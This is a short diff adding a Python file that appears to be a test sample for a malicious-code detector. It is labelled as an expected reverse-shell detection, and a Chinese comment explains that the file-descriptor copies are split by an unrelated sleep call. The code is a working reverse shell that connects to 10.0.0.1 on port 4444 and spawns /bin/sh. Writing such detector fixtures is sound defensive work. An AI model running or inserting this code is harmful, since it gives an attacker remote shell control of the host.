@@ -0,0 +1,11 @@
+# 先复制标准输出再复制标准输入，中间穿插无关调用，最后通过pty启动shell
+# detect-expect: 'IsMalicious': True, 'Desc': 'Reverse shell'
+import os, pty, socket, time
+
+s = socket.socket()
+s.connect(("10.0.0.1", 4444))
+os.dup2(s.fileno(), 1)
+time.sleep(1)
+os.dup2(s.fileno(), 0)
+os.dup2(s.fileno(), 2)
+pty.spawn("/bin/sh")